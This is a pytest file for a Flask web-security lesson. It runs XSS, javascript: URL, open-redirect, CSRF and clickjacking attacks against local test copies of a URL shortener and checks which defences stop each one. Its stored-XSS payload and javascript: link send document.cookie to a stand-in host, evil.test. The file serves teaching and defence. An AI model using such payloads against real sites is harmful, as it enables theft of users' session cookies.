"""Step 6 lesson: every attack it runs works against Shortly without the defence and fails with it,
and the demonstrations show what the text says they show.

Part one imports the lesson's apps (notebooks/apps/flask_shortly, notebooks/apps/red_team) and
runs each attack of section 5 again, through the model browser, against a copy of Shortly with no
defence, with each defence alone and with all six: it must work against the first, fail against the
last, and be stopped by exactly the defences the lesson's table names. The model browser's own
rules (cookies, frames, scripts) are checked against what browsers do. Part two reads the lesson's
one run (shared with test_notebooks.py, which checks errors, time and leaks): the `flask` command,
configuration, `g`, pytest, cookies, sessions, passwords, the attack table, TLS and the proxy.
Behaviour only: no timing is asserted.
"""

from __future__ import annotations

import base64
import os
import re
import shutil
import struct
import subprocess
import sys
import types
from collections.abc import Callable, Iterator
from contextlib import contextmanager, redirect_stdout
from dataclasses import dataclass
from io import StringIO
from urllib.parse import urlencode

import nbformat
import pytest
from conftest import ROOT, prose
from kernels import cell_texts, output_of

from socket2flask.apps import use_app
from socket2flask.servers import serve

LESSON = ROOT / "notebooks" / "06_flask_security.ipynb"
use_app("flask_shortly")
use_app("red_team")
from attacker_site import create_site  # noqa: E402
from flask_shortly import create_app, defences  # noqa: E402
from flask_shortly.db import get_db  # noqa: E402
from model_browser import Browser, Page, is_javascript  # noqa: E402
from werkzeug.security import generate_password_hash  # noqa: E402

PASSWORD = "correct horse battery staple"
SETUPS = {
    "no defence": [],
    **{name: [name] for name in defences.ALL},
    "all six": list(defences.ALL),
}
# The defences that stop each attack on their own: the lesson's table.
STOPPED_BY = {
    "stored_xss": {"autoescape", "headers"},
    "javascript_url": {"url_schemes", "headers"},
    "open_redirect": {"redirect"},
    "csrf": {"samesite", "csrf_token"},
    "clickjacking": {"headers", "samesite"},
}


# -- part one: the attacks, against the apps themselves -------------------------------------------
@dataclass
class Target:
    shortly: str
    evil: str
    ada: Browser


@contextmanager
def targets(tmp_path) -> Iterator[dict[str, Target]]:
    """The lesson's eight copies of Shortly, each with its attacker's site and Ada logged in."""
    started, found = [], {}
    try:
        for label, names in SETUPS.items():
            app = create_app(
                {"SECRET_KEY": f"key {label}", "DEFENCES": names, "TESTING": True},
                instance_path=str(tmp_path / label.replace(" ", "-")),
            )
            with app.app_context():  # a cheap hash: the tests log in often (the app checks any)
                get_db().execute(
                    "INSERT INTO users VALUES ('ada', ?)",
                    (generate_password_hash(PASSWORD, "pbkdf2:sha256:1000"),),
                )
            started.append(serve(app))
            shortly = f"http://shortly.test:{started[-1].port}"
            started.append(serve(create_site(shortly)))
            ada = Browser()
            ada.submit(ada.get(shortly + "/auth/login"), name="ada", password=PASSWORD)
            found[label] = Target(shortly, f"http://evil.test:{started[-1].port}", ada)
        yield found
    finally:
        for server in started:
            server.stop()


def new_link(browser: Browser, target: Target, url: str) -> Page:
    return browser.submit(browser.get(target.shortly + "/"), url=url)


def short_id_of(created: Page) -> str:
    return created.location.split("/")[-1].removesuffix("+")


def link_target(target: Target, short_id: str) -> str:
    page = Browser().get(f"{target.shortly}/{short_id}+")
    return re.search(r'<dd class="link"><a href="([^"]*)"', page.text)[1]


def stored_xss(target: Target) -> bool:
    url = "https://docs.python.org/<script>fetch('//evil.test/steal?c='+document.cookie)</script>"
    created = new_link(Browser(), target, url)
    if created.location is None:
        return False
    return any("steal" in script for script in target.ada.scripts(target.ada.get(created.location)))


def javascript_url(target: Target) -> bool:
    created = new_link(Browser(), target, "javascript:fetch('//evil.test/steal')")
    if created.location is None:
        return False
    scripts = target.ada.scripts(target.ada.get(created.location))
    return any(script.startswith("javascript:") for script in scripts)


def open_redirect(target: Target) -> bool:
    browser = Browser()
    link = target.shortly + "/auth/login?" + urlencode({"next": target.evil + "/phish"})
    answer = browser.submit(browser.get(link), name="ada", password=PASSWORD)
    return answer.location.startswith(target.evil)


def csrf(target: Target) -> bool:
    short_id = short_id_of(new_link(target.ada, target, "https://www.python.org/"))
    prize = target.ada.get(f"{target.evil}/prize?link={short_id}")
    target.ada.submit(prize)
    return link_target(target, short_id).startswith(target.evil)


def clickjacking(target: Target) -> bool:
    short_id = short_id_of(new_link(target.ada, target, "https://www.python.org/"))
    framed = target.ada.frame(target.ada.get(f"{target.evil}/frame?link={short_id}"))
    return framed is not None and framed.status == 200


ATTACKS: dict[str, Callable[[Target], bool]] = {
    "stored_xss": stored_xss,
    "javascript_url": javascript_url,
    "open_redirect": open_redirect,
    "csrf": csrf,
    "clickjacking": clickjacking,
}


@pytest.mark.timeout(120)
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_each_attack_works_without_its_defence_and_fails_with_it(attack, tmp_path):
    with targets(tmp_path) as found:
        works = {label: ATTACKS[attack](target) for label, target in found.items()}
    assert works["no defence"], f"{attack} must work against Shortly with no defence"
    assert not works["all six"], f"{attack} must fail against Shortly with every defence"
    stopped = {label for label in defences.ALL if not works[label]}
    assert stopped == STOPPED_BY[attack], (attack, works)


@pytest.mark.timeout(120)
def test_csrf_fails_in_the_model_of_chrome_whose_default_samesite_is_lax(tmp_path):
    with targets(tmp_path) as found:
        target = found["no defence"]
        chrome = Browser(missing_same_site="Lax")
        chrome.submit(chrome.get(target.shortly + "/auth/login"), name="ada", password=PASSWORD)
        assert not csrf(Target(target.shortly, target.evil, chrome))
        assert csrf(target)  # and in Firefox's and Safari's model, the same attack works


WORKER = """
from flask_shortly import create_app
from flask_shortly.db import get_db

app = create_app()  # no instance_path: what gunicorn's `flask_shortly:create_app()` does
with app.app_context():
    get_db().execute("INSERT INTO links (url) VALUES ('https://www.python.org/')")
    links = get_db().execute("SELECT COUNT(*) FROM links").fetchone()[0]
print(app.config["DATABASE"], app.config["SECRET_KEY"], links, sep="|")
"""


def test_every_worker_of_create_app_shares_the_default_instance_folder(tmp_path):
    """Two processes (two workers of `gunicorn -w 2 "flask_shortly:create_app()"`) call
    create_app() with no argument: both read the settings.py of Flask's default instance folder,
    beside the package, and share its database. Without a key, create_app raises and leaves no
    folder behind. On a copy of the package, so that the course's own folder stays clean."""
    package = ROOT / "notebooks" / "apps" / "flask_shortly" / "flask_shortly"
    ignored = shutil.ignore_patterns("__pycache__")
    shutil.copytree(package, tmp_path / "flask_shortly", ignore=ignored)
    (tmp_path / "tmp").mkdir()  # the workers' TMPDIR: nothing may be left in it
    env = {name: value for name, value in os.environ.items() if not name.startswith("SHORTLY_")}
    env |= {"PYTHONPATH": str(tmp_path), "TMPDIR": str(tmp_path / "tmp")}

    def worker() -> subprocess.CompletedProcess:
        command = [sys.executable, "-c", WORKER]
        return subprocess.run(
            command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
        )

    refused = worker()
    assert "RuntimeError: Shortly needs a SECRET_KEY" in refused.stderr, refused.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["flask_shortly", "tmp"]
    assert not any((tmp_path / "tmp").iterdir())
    instance = tmp_path / "instance"  # Flask's default: beside the package
    instance.mkdir()
    (instance / "settings.py").write_text('SECRET_KEY = "from settings.py"\n')
    runs = [worker() for _ in range(2)]
    database = str(instance / "shortly.sqlite3")
    assert [run.stdout.strip() for run in runs] == [
        f"{database}|from settings.py|1",
        f"{database}|from settings.py|2",  # the second worker sees the first one's link
    ], [run.stderr for run in runs]
    assert not any((tmp_path / "tmp").iterdir())


def test_defences_refuse_names_they_do_not_know(tmp_path):
    with pytest.raises(ValueError, match="unknown defences"):
        create_app({"SECRET_KEY": "k", "DEFENCES": ["csrf"]}, instance_path=str(tmp_path))
    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        create_app({}, instance_path=str(tmp_path))


def test_the_csrf_check_refuses_a_missing_an_empty_and_a_foreign_token(tmp_path):
    app = create_app({"SECRET_KEY": "k"}, instance_path=str(tmp_path))
    client = app.test_client()
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/").text)[1]
    for sent in (None, "", token[:-1], "é" + token[1:], create_token_of_another_session(app)):
        data = {"url": "https://www.python.org/"} | ({} if sent is None else {"csrf_token": sent})
        assert client.post("/", data=data).status_code == 403, sent
    assert client.post("/", data={"url": "https://a.test/", "csrf_token": token}).status_code == 302
    fresh = app.test_client()  # no session yet: an empty token must not match an empty session
    assert fresh.post("/", data={"url": "https://a.test/", "csrf_token": ""}).status_code == 403


def create_token_of_another_session(app) -> str:
    page = app.test_client().get("/").text
    return re.search(r'name="csrf_token" value="([^"]+)"', page)[1]


# -- the model browser follows browsers' rules ----------------------------------------------------
def page(url: str, headers: dict[str, str] | None = None, text: str = "") -> Page:
    return Page(url, 200, {k.lower(): v for k, v in (headers or {}).items()}, text)


def test_the_model_browser_sends_cookies_as_browsers_do():
    browser = Browser()
    url = "http://shortly.test:1/app/page"
    for header in (
        "a=1; Path=/",
        "lax=2; Path=/; SameSite=Lax",
        "strict=3; Path=/; SameSite=Strict",
        "deep=4; Path=/app/deep",
        "secure=5; Path=/; Secure",
        "gone=6; Path=/; Max-Age=0",
        "here=7",  # default path: the directory of the page that set it, /app
    ):
        browser.store(header, url)

    def names(*args, **kwargs) -> list[str]:
        return [cookie.name for cookie in browser.cookies_for(*args, **kwargs)]

    assert names("http://shortly.test:2/app/x") == ["a", "lax", "strict", "here"]  # any port
    assert names("http://shortly.test:2/") == ["a", "lax", "strict"]
    assert names("http://shortly.test:2/app/deep/x") == ["a", "lax", "strict", "deep", "here"]
    assert names("http://shortly.test:2/app/deeper") == ["a", "lax", "strict", "here"]
    assert names("http://other.test:1/app/x") == []  # host-only cookies
    cross = "http://evil.test:9/"
    assert names("http://shortly.test:1/", "GET", cross) == ["a", "lax"]
    assert names("http://shortly.test:1/", "POST", cross) == ["a"]
    assert names("http://shortly.test:1/", "GET", cross, top_level=False) == ["a"]
    assert names("http://shortly.test:1/", "POST", "http://www.shortly.test:8/") == [
        "a",
        "lax",
        "strict",
    ]  # another subdomain of the same site: SameSite lets it through
    chrome = Browser(missing_same_site="Lax")
    chrome.store("a=1; Path=/", url)
    assert chrome.cookies_for("http://shortly.test:1/", "POST", cross) == []


def test_the_model_browser_refuses_what_browsers_refuse_to_store():
    browser = Browser()
    browser.store("s=1; Secure", "http://shortly.test:1/")  # Secure over plain HTTP
    browser.store("lax=1; SameSite=Lax", "http://shortly.test:1/", in_foreign_frame=True)
    browser.store("none=1; SameSite=None", "http://shortly.test:1/", in_foreign_frame=True)
    assert [c.name for c in browser.jar] == ["none"]
    with pytest.raises(ValueError, match="loopback only"):
        browser.get("http://example.org/")


def test_the_model_browser_knows_which_scripts_a_page_runs():
    text = (
        '<p onclick="one()">x</p><script>two()</script> after <script src="/s.js"></script>'
        '<a href=" JaVa\tScript:three()">a</a><a href="https://a.test/">b</a>'
    )
    assert Browser.scripts(page("http://a.test/", text=text)) == [
        "one()",
        "two()",
        " JaVa\tScript:three()",
    ]
    for policy in ("default-src 'self'", "script-src 'self'; default-src *"):
        blocked = page("http://a.test/", {"Content-Security-Policy": policy}, text)
        assert Browser.scripts(blocked) == []
    allowed = page(
        "http://a.test/", {"Content-Security-Policy": "script-src 'unsafe-inline'"}, text
    )
    assert len(Browser.scripts(allowed)) == 3
    assert is_javascript("\x00 java\nscript:x") and not is_javascript("https://javascript.test/")


def test_the_model_browser_frames_as_browsers_do():
    shortly, evil = "http://shortly.test:1/x", "http://evil.test:2/"
    cases = [
        ({}, evil, True),
        ({"X-Frame-Options": "DENY"}, "http://shortly.test:1/", False),
        ({"X-Frame-Options": "SAMEORIGIN"}, "http://shortly.test:1/", True),
        ({"X-Frame-Options": "SAMEORIGIN"}, evil, False),
        ({"Content-Security-Policy": "frame-ancestors 'self'"}, evil, False),
        ({"Content-Security-Policy": "frame-ancestors http://evil.test:2"}, evil, True),
        # frame-ancestors wins over X-Frame-Options
        ({"Content-Security-Policy": "frame-ancestors *", "X-Frame-Options": "DENY"}, evil, True),
    ]
    for headers, parent, allowed in cases:
        assert Browser.may_frame(page(shortly, headers), parent) is allowed, (headers, parent)


# -- part two: the lesson's own run ----------------------------------------------------------------
@pytest.fixture(scope="module")
def executed(run_notebook) -> nbformat.NotebookNode:
    _, leaks, nb = run_notebook(LESSON)
    assert not leaks, leaks
    return nb


@pytest.fixture(scope="module")
def outputs(executed) -> list[tuple[str, str]]:
    return cell_texts(executed)


@pytest.mark.timeout(300)
def test_config_comes_in_layers_and_the_flask_command_runs_the_factory(outputs):
    layers = output_of(outputs, 'os.environ["SHORTLY_DEFENCES"]')
    assert re.search(r"^SECRET_KEY\s+'from the environment'$", layers, re.M)
    assert re.search(r"^MAX_CONTENT_LENGTH\s+16384$", layers, re.M)
    assert re.search(r"^DEFENCES\s+\['headers'\]$", layers, re.M)
    assert re.search(r"^TESTING\s+True$", layers, re.M)
    assert re.search(r"^DATABASE\s+'.*/instance/shortly\.sqlite3'$", layers, re.M)
    routes = output_of(outputs, 'flask_command("routes")')
    for endpoint, rule in [
        ("auth.login", "/auth/login"),
        ("links.details", "/<base36:short_id>+"),
        ("links.edit", "/<base36:short_id>/edit"),
        ("links.new_url", "/"),
    ]:
        assert re.search(rf"^{re.escape(endpoint)}\s+.*{re.escape(rule)}\s*$", routes, re.M)
    run = output_of(outputs, 'flask_command("run", "--debug"')
    assert "GET / -> 200 Shorten a URL | shortly" in run
    for line in ("Debug mode: on", "Restarting with stat", "Debugger PIN:", "Running on"):
        assert line in run, line
    assert "\x1b[" not in run  # the colours were taken out


@pytest.mark.timeout(300)
def test_g_keeps_one_connection_and_pytest_passes(outputs):
    text = output_of(outputs, "first, second = db.get_db(), db.get_db()")
    assert "one connection for every query of the request: True" in text
    assert "after the context ended (teardown): Cannot operate on a closed database." in text
    assert "conftest.py:" in output_of(outputs, '"conftest.py").write_text(')
    tests = output_of(outputs, '"test_shortly.py").write_text(')
    assert len(re.findall(r"\btest_\w+", tests.split(":", 1)[1])) == 4
    assert re.search(r"^4 passed in ", output_of(outputs, '"-m", "pytest"'), re.M)


@pytest.mark.timeout(300)
def test_cookies_on_the_wire_and_what_goes_back(outputs):
    wire = output_of(outputs, 'wire.show(server, path="/set"')
    assert "Set-Cookie: theme=dark; Path=/␍␊" in wire
    assert re.search(
        r"Set-Cookie: visits=1; Expires=[^;]+; Max-Age=3600; HttpOnly; Path=/; "
        r"SameSite=Lax␍␊",
        wire,
    )
    assert "Set-Cookie: panel=open; Path=/admin; SameSite=Strict␍␊" in wire
    assert "Set-Cookie: token=s3cret; Secure; Path=/␍␊" in wire
    sent = output_of(outputs, "browser = Browser()   #")
    assert "token" not in sent.split("\n")[0]  # a Secure cookie over HTTP is not kept
    rows = dict(re.findall(r"^(\w+ /\S*\s+.+?)\s+Cookie: (.*)$", sent, re.M))
    assert list(rows.values()) == [
        "theme=dark; visits=1",
        "theme=dark; visits=1; panel=open",
        "theme=dark; visits=1",
        "theme=dark",
    ]
    assert sent.rstrip().endswith("document.cookie: theme=dark; panel=open")


@pytest.mark.timeout(300)
def test_signatures_sessions_and_key_rotation(outputs):
    by_hand = output_of(outputs, "def unsign(")
    assert "checked:        user=ada" in by_hand
    assert "value changed:  None" in by_hand and "another key:    None" in by_hand
    stamped = output_of(outputs, "class AnHourAgo(")
    assert "-> b'ada'" in stamped and "Signature age 3600 > 600 seconds" in stamped
    session = output_of(outputs, "keyed = shortly_app(")
    assert (
        "log in -> 302" in session and "its data, read without the key: {'user': 'ada'}" in session
    )
    forged = output_of(outputs, "def who(")
    assert re.search(r"Ada's cookie, as Shortly sent it\s+-> ada$", forged, re.M)
    assert forged.count("-> nobody (the cookie was ignored)") == 2
    rotation = output_of(outputs, "SECRET_KEY_FALLBACKS=[OLD_KEY]")
    assert "new key, old one as a fallback: ada" in rotation
    assert "new key alone:                  nobody" in rotation
    assert rotation.rstrip().endswith("read with the new key alone: ada")


@pytest.mark.timeout(300)
def test_passwords_are_salted_and_checked(outputs):
    costs = output_of(outputs, "def seconds_per_call(")
    for name in ("sha256, plain", "pbkdf2:sha256, 1,000,000 rounds", "scrypt (werkzeug's default)"):
        assert re.search(rf"^{re.escape(name)}\s+\S+ (s|ms|µs) per hash:", costs, re.M), name
    assert re.search(r"^-> one scrypt guess costs as much as [\d,]+ SHA-256 guesses$", costs, re.M)
    stored = output_of(outputs, "stored = generate_password_hash(ADA_PASSWORD)")
    hashes = re.findall(r"(scrypt:32768:8:1\$\w{16}\$[0-9a-f]{128})", stored)
    assert len(hashes) == 2 and hashes[0] != hashes[1]  # salted: never the same twice
    plain = re.search(r"sha256, twice: (\w+) \.\.\. (\w+) \.\.\.", stored)
    assert plain[1] == plain[2]
    assert "check the right password: True | a wrong one: False" in stored


@pytest.mark.timeout(300)
def test_each_attack_is_shown_working_then_failing(outputs):
    def verdicts(fragment: str) -> dict[str, str]:
        labels = "|".join(re.escape(label) for label in SETUPS)  # after show()'s code, maybe
        found = re.findall(rf"({labels})\s+(WORKED|failed):", output_of(outputs, fragment))
        return dict(found)

    assert verdicts("def stored_xss(") == {"no defence": "WORKED"}
    assert verdicts('run(stored_xss, "autoescape"') == dict.fromkeys(
        ["autoescape", "headers", "all six"], "failed"
    )
    assert verdicts("def javascript_url(") == {"no defence": "WORKED", "autoescape": "WORKED"}
    assert verdicts('run(javascript_url, "url_schemes"') == dict.fromkeys(
        ["url_schemes", "headers", "all six"], "failed"
    )
    assert verdicts("def open_redirect(") == {"no defence": "WORKED"}
    assert verdicts('run(open_redirect, "redirect"') == dict.fromkeys(
        ["redirect", "all six"], "failed"
    )
    assert verdicts("def csrf(") == {"no defence": "WORKED"}
    assert verdicts('run(csrf, "samesite"') == dict.fromkeys(
        ["samesite", "csrf_token", "all six"], "failed"
    )
    assert "Ada in the model of Chrome: failed" in output_of(outputs, "Browser(missing_same_site=")
    assert verdicts("def clickjacking(") == {"no defence": "WORKED"}
    assert verdicts('run(clickjacking, "headers"') == dict.fromkeys(
        ["headers", "samesite", "all six"], "failed"
    )
    xss = output_of(outputs, "def stored_xss(")
    assert "<script>fetch(" in xss and "&lt;script&gt;" in output_of(
        outputs, 'run(stored_xss, "autoescape"'
    )


@pytest.mark.timeout(300)
def test_the_attack_table_is_the_lessons_claim(outputs):
    text = output_of(outputs, "ATTACKS = [")
    header, *rows = [line for line in text.splitlines() if line.strip()][:6]

    def columns(line: str) -> list[str]:  # a name in 15 characters, then 12 for each copy
        return [line[15 + 12 * n : 27 + 12 * n].strip() for n in range(len(SETUPS))]

    labels = columns(header)
    assert labels == list(SETUPS)
    table = {row[:15].strip(): dict(zip(labels, columns(row))) for row in rows}
    assert set(table) == set(STOPPED_BY)
    for attack, cells in table.items():
        expected = {
            label: "-" if label == "all six" or label in STOPPED_BY[attack] else "WORKS"
            for label in SETUPS
        }
        assert cells == expected, attack
    assert "still running: []" in text


def png_size(data: str) -> tuple[int, int]:
    """Width and height of a base64 PNG, from its header."""
    return struct.unpack(">II", base64.b64decode(data)[16:24])


@pytest.mark.timeout(300)
def test_tls_on_the_wire_and_the_handshake_plot(outputs, executed):
    basics = output_of(outputs, "TLS_URL = f")
    assert "trusting the lesson's CA: hello" in basics
    assert "trusting the system's CAs: certificate verify failed" in basics
    assert re.search(
        r"negotiated: TLSv1\.[23] \S+ \| the certificate is valid for "
        r"\['127\.0\.0\.1', 'localhost', 'shortly\.test'\]",
        basics,
    )
    plain, hello = output_of(outputs, "hello.do_handshake()").split("the server:")
    assert "GET / HTTP/1.1␍␊" in plain and "<<< response, 0 bytes" in plain
    assert hello.lstrip().startswith("SSLError: [SSL: HTTP_REQUEST]")
    request, response = hello.split("<<< response")
    assert ">>> request" in request and "\\x16\\x03\\x01" in request and "shortly.test" in request
    assert response.split("\n", 1)[1].startswith("\\x16\\x03\\x03")  # ServerHello
    assert "\\x14\\x03\\x03\\x00\\x01\\x01" in response  # ChangeCipherSpec, for middleboxes
    assert "\\x17\\x03\\x03" in response  # then application data: ciphertext
    cost = output_of(outputs, "handshakes = {")
    for label in ("https, a new connection each", "https, kept alive", "http, kept alive"):
        assert re.search(rf"^{re.escape(label)}\s+median\s+\S+ (s|ms|µs)\s+p99", cost, re.M)
    assert "-> TLS added " in cost
    cell = next(c for c in executed.cells if c.cell_type == "code" and "handshakes = {" in c.source)
    images = [o["data"]["image/png"] for o in cell.outputs if "image/png" in o.get("data", {})]
    assert len(images) == 1
    width, height = png_size(images[0])  # plots' 1000 x 400, plus what the inline backend's
    assert 1000 <= width <= 1040 and 400 <= height <= 440  # tight bounding box adds around it


@pytest.mark.timeout(300)
def test_tls_at_the_proxy_secure_cookies_hsts_and_adhoc(outputs):
    text = output_of(outputs, "ProxyFix(secure_shortly.wsgi_app")
    cookie = re.search(r"^Set-Cookie: (.*)$", text, re.M)[1]
    assert cookie.startswith("session=") and "; Secure;" in cookie and "SameSite=Lax" in cookie
    assert "Strict-Transport-Security: max-age=31536000; includeSubDomains" in text
    assert "through the TLS proxy:     logged in as ada" in text
    assert "plain HTTP to the app:     not logged in | Strict-Transport-Security: None" in text
    adhoc = output_of(outputs, 'ssl_context="adhoc"')
    assert (
        "a client that trusts our CA: certificate verify failed: self-signed certificate" in adhoc
    )
    assert "subject: CN=*,O=Dummy Certificate | issuer: CN=*,O=Dummy Certificate" in adhoc
    # the last cell stops the servers and keeps WORK, so that any cell above can run again
    assert "still running: [] | scratch folder kept for a re-run: True" in output_of(
        outputs, "scratch folder kept for a re-run"
    )


def run_cell_without(module: str, fragment: str) -> str:
    """Run the lesson's cell that contains `fragment` as if `module` were not installed; what it
    printed. Only its first branch may run: it must need nothing else of the lesson."""
    source = next(
        c.source
        for c in nbformat.read(LESSON, as_version=4).cells
        if c.cell_type == "code" and fragment in c.source
    )
    find_spec = lambda name: None if name == module else object()  # noqa: E731
    fake = types.SimpleNamespace(util=types.SimpleNamespace(find_spec=find_spec))
    printed = StringIO()
    with redirect_stdout(printed):
        exec(source.replace("import importlib.util\n", ""), {"importlib": fake})
    return printed.getvalue()


def test_without_cryptography_or_pytest_the_cells_say_so_and_go_on():
    assert "skipped: ssl_context='adhoc' needs the cryptography package" in run_cell_without(
        "cryptography", 'ssl_context="adhoc"'
    )
    assert "pytest is not installed here" in run_cell_without("pytest", '"-m", "pytest"')


def test_the_lesson_says_what_its_table_shows():
    text = prose(LESSON)
    assert "stored XSS by autoescaping and by the CSP" in text
    assert "CSRF by SameSite and by the token" in text
    assert "clickjacking by the headers and by SameSite" in text
    # the model of Chrome has no two-minute exception, and the lesson says so
    assert "Real Chrome would have sent the cookie" in text
    assert "WORK_DIR.cleanup()" not in "".join(
        c.source for c in nbformat.read(LESSON, as_version=4).cells
    )  # WORK stays for a re-run of any cell
